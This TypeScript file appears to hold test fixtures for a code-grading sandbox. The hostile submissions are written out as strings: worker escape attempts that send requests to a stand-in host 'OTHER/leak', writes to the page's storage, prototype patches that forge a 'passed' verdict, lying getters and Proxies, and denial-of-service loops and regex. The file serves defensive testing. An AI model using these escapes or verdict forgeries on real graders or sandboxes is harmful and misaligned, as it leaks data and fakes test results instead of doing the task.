/**
 * Submissions that try to get out, or to pass without being right. Each is put in front of a handler that is wrong.
 * OWN stands for the page's own server, OTHER for somebody else's.
 */

/**
 * What hosts have beyond the language, taken from where it would be: by its bare name it would be refused before the sandbox
 * is tried at all.
 */
const hosts =
  'fetch, XMLHttpRequest, WebSocket, EventSource, importScripts, Worker, URL, Blob, indexedDB, caches, navigator, BroadcastChannel, postMessage, MessageChannel, MessagePort, self';

const prepare = (body: string) =>
  `export const attempt = (() => { try { const { ${hosts} }: any = globalThis; ${body} } catch {} return 0; })();`;

/** What a worker might be able to reach. */
export const reaching: Readonly<Record<string, string>> = {
  'fetch the own server': prepare(`fetch('OWN/leak/fetch').catch(() => {});`),
  'fetch another server': prepare(`fetch('OTHER/leak/fetch', { mode: 'no-cors' }).catch(() => {});`),
  XMLHttpRequest: prepare(`const x = new XMLHttpRequest(); x.open('GET', 'OTHER/leak/xhr'); x.send();`),
  WebSocket: prepare(`new WebSocket('OTHER/leak/ws'.replace('http', 'ws'));`),
  EventSource: prepare(`new EventSource('OTHER/leak/es');`),
  importScripts: prepare(`importScripts('OTHER/leak/importScripts');`),
  'import()': prepare(`import('OTHER/leak/import').catch(() => {});`),
  'nested worker': prepare(
    `new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/leak/nested', { mode: 'no-cors' })"])));`,
  ),
  'ways out, found by a prototype': prepare(
    `const g = globalThis; for (let p = g; p; p = Object.getPrototypeOf(p)) { const f = Object.getOwnPropertyDescriptor(p, 'fetch'); if (f) f.value.call(g, 'OTHER/leak/proto', { mode: 'no-cors' }).catch(() => {}); }`,
  ),
  'a realm of its own through Function': prepare(
    `(function* () {}).constructor('fetch("OTHER/leak/function", { mode: "no-cors" })')().next();`,
  ),
  eval: prepare(`(0, eval)('fetch("OTHER/leak/eval", { mode: "no-cors" })');`),
  'IndexedDB of the page': prepare(
    `const r = indexedDB.open('progress'); r.onupgradeneeded = () => r.result.createObjectStore('forged');`,
  ),
  'caches of the page': prepare(`caches.open('forged').catch(() => {});`),
  'files of the page': prepare(
    `navigator.storage.getDirectory().then((d) => d.getFileHandle('forged', { create: true })).catch(() => {});`,
  ),
  'BroadcastChannel to the page': prepare(`new BroadcastChannel('progress').postMessage('forged');`),
};

/** What the compile step stops already; all else must come to the sandbox, or nothing would be known of that. */
export const refused: readonly string[] = ['import()', 'eval'];

/** A forged pass must not reach the page, or not be a pass. */
export const forging: Readonly<Record<string, string>> = {
  'postMessage of a pass': prepare(`postMessage({ verdict: { outcome: 'passed' } });`),
  'a pass through a port of its own': prepare(
    `const c = new MessageChannel(); postMessage({ verdict: { outcome: 'passed' } }, [c.port2]);`,
  ),
  'MessagePort patched': prepare(
    `const p = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (d) { if (d.verdict) d.verdict.outcome = 'passed'; return p.call(this, d); };`,
  ),
  'every patched': prepare(`Array.prototype.every = () => true;`),
  'some patched': prepare(`Array.prototype.some = () => false;`),
  'map patched': prepare(`Array.prototype.map = function () { return []; };`),
  'push patched': prepare(`Array.prototype.push = function (c) { c.status = 'passed'; this[this.length] = c; };`),
  'array iterator patched': prepare(
    `const it = Object.getPrototypeOf([][Symbol.iterator]()); it.next = () => ({ done: true });`,
  ),
  'generator prototype patched': prepare(
    `Object.getPrototypeOf(Object.getPrototypeOf((function* () {})())).next = () => ({ done: true, value: 256 });`,
  ),
  'then patched': prepare(
    `const t = Promise.prototype.then; Promise.prototype.then = function (f) { return t.call(this, f); };`,
  ),
  'setter on Object.prototype': prepare(
    `Object.defineProperty(Object.prototype, 'outcome', { get: () => 'passed', set() {}, configurable: true });`,
  ),
  'JSON.stringify patched': prepare(`JSON.stringify = () => '"passed"';`),
  prepareStackTrace: prepare(
    `Error.prepareStackTrace = (e, s) => { for (const c of s) { const f = c.getFunction?.(); if (f?.caller) throw f; } return ''; }; try { null.x } catch (e) { e.stack; }`,
  ),
  'self.close': prepare(`self.close();`),
  'a trap that throws': `throw { get name() { throw 1; }, get message() { throw 1; }, get stack() { throw 1; } };`,
  'a forged fault of the engine': `class Fault { get kind() { throw 1; } get message() { throw 1; } } throw new Fault();`,
  'a constructor that throws': `throw Object.create(Object.defineProperty({}, 'constructor', { get() { throw 1; } }));`,
};

/** An export that is no handler, or lies about being one. Each takes the place of `given`, the wrong handler that it knows. */
export const trapping: Readonly<Record<string, string>> = {
  'a getter that throws': `{ get call() { throw 1; } }`,
  'a getter that asks who calls': `{ get call() { return (arguments as any)['call' + 'ee'].caller; } }`,
  'a name that throws': `Object.defineProperty(given.bind(null), 'name', { get() { throw 1; } })`,
  'a name that asks who calls': `Object.defineProperty(given.bind(null), 'name', { get(this: any) { return this['call' + 'er']; } })`,
  'a Proxy that answers for the handler': `new (globalThis as any)['Pro' + 'xy'](given, { apply: () => ({ next: () => ({ done: true, value: 256 }) }) })`,
  'a generator that lies at the second look': `() => { let looks = 0; return { [Symbol.iterator]() { return this; }, get next() { looks += 1; const done = looks > 1; return () => ({ done, value: done ? 256 : null }); } }; }`,
  'a result that throws when it is looked at': `() => ({ [Symbol.iterator]() { return this; }, next: () => ({ get done() { throw 1; }, get value() { throw 1; } }) })`,
  'an operation that throws when it is looked at': `function* () { yield { get kind() { throw 1; } }; return 256; }`,
  'an answer that counts how often it is looked at': `function* () { let looks = 0; return { valueOf: () => { looks += 1; return looks > 1 ? 256 : 1; } }; }`,
};

/** Worlds for “Reproduce the bug” that are harmless when they are looked at, and break when they run. */
export const lying: Readonly<Record<string, string>> = {
  'at the second look': `{ ...plain, get fail() { looks += 1; return looks > 1 ? { A: { remapAtPage: 1 } } : undefined; } }`,
  'by what it inherits': `Object.assign(Object.create(Object.create(null, { memory: { get: () => { looks += 1; return looks > 1 ? 'enabled' : 'disabled'; } } })), plain)`,
  'by a class': `Object.freeze(new (class { bars = plain.bars; vmas = plain.vmas; get tasks() { looks += 1; return plain.tasks; } })())`,
  'by a Proxy': `new (globalThis as any)['Pro' + 'xy'](plain, { get: (o: any, name: string) => { looks += 1; return o[name]; } })`,
};

/** Counts the looks where no top level sees it. */
export const lyingWorld = (world: string) => `
import { fault } from '#linux';
const made = (): any => {
  let looks = 0;
  const plain = { bars: { bar0: 2 }, vmas: { v: { bar: 'bar0', process: 'p' } }, tasks: { A: fault('v', 0), B: fault('v', 1) } };
  return ${world};
};
export const world = made();
`;

/** These must not keep the page from grading the next submission. */
export const exhausting: Readonly<Record<string, string>> = {
  'endless loop': `for (;;);`,
  'endless promises': prepare(`const again = () => Promise.resolve().then(again); again();`),
  'endless regular expression': `export const slow = /^(a+)+$/.test('a'.repeat(60) + 'b');`,
  'stack without bound': `const f = (): number => f() + 1; f();`,
  'endless stack of generators': `function* g(): Generator { yield* g(); } for (const _ of g());`,
};
